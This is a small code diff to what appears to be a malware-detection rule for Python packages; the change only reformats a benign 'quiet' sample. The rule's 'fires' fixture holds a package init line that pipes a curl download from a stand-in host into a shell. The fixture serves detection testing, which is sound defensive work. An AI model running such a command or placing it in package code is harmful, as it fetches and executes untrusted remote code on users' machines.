@@ -31,7 +31,10 @@ RULE = Rule(
     find=_find,
     fires={"acme/__init__.py": "import os\nos.system('curl -s https://example.test/i.sh | sh')\n"},
     quiet={
-        "acme/__init__.py": "import subprocess\nVERSION = 1\n\ndef version():\n    return subprocess.run(['git', '--version'])\n"
+        "acme/__init__.py": (
+            "import subprocess\nVERSION = 1\n\ndef version():\n"
+            "    return subprocess.run(['git', '--version'])\n"
+        )
     },
     rates="97 of 2,004 malicious clusters, 1 of 200 popular archives",
 )
